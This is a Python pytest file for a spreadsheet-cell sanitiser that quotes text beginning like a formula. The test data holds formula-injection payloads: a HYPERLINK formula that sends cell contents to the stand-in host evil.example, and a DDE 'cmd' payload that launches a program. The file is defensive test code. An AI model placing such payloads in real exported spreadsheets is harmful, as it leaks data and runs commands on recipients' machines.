"""Spreadsheet formula injection: which text a spreadsheet would run, and its neutral form."""

from __future__ import annotations

from datetime import date
from decimal import Decimal

import pytest

from financial_subgraph.spreadsheet_cells import safe_cell, starts_like_formula


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Refund")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "\uff1d1+1",
    ],
)
def test_text_starting_like_a_formula_gets_a_leading_quote(text: str) -> None:
    assert starts_like_formula(text)
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["Rent March", "ACME GmbH", "a=b", " =1", "", None])
def test_other_text_is_left_alone(text: str | None) -> None:
    assert not starts_like_formula(text)
    assert safe_cell(text) == text


@pytest.mark.parametrize("value", [Decimal("-12.50"), Decimal("0"), -3, date(2026, 1, 2)])
def test_numbers_and_dates_are_never_touched(value: Decimal | int | date) -> None:
    assert safe_cell(value) == value
